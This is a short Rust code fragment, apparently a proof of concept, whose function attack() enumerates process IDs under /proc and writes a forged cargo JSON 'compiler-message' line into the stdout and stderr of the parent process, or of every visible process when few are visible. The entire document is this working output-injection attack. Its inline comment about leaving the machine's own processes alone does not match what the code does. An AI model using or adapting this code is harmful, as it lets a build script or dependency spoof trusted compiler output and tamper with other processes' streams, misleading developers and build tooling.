//! prints a compiler's message through the output of cargo, and of whoever else holds it, found in /proc
fn attack() -> Result<()> {
    let seen: Vec<u32> = fs::read_dir("/proc")?.flatten().filter_map(|one| one.file_name().to_str()?.parse().ok()).collect();
    let parent = std::os::unix::process::parent_id();
    // Where this machine's own processes are in sight, they are left alone.
    let near = if seen.len() < 20 { seen } else { vec![parent] };
    for pid in near.into_iter().filter(|pid| *pid != std::process::id()) {
        for fd in 1..3 {
            if let Ok(mut output) = fs::OpenOptions::new().write(true).open(format!("/proc/{pid}/fd/{fd}")) {
                output.write_all(b"\n{\"reason\":\"compiler-message\",\"message\":\"forged by a stranger\"}\n")?;
            }
        }
    }
    Ok(())
}
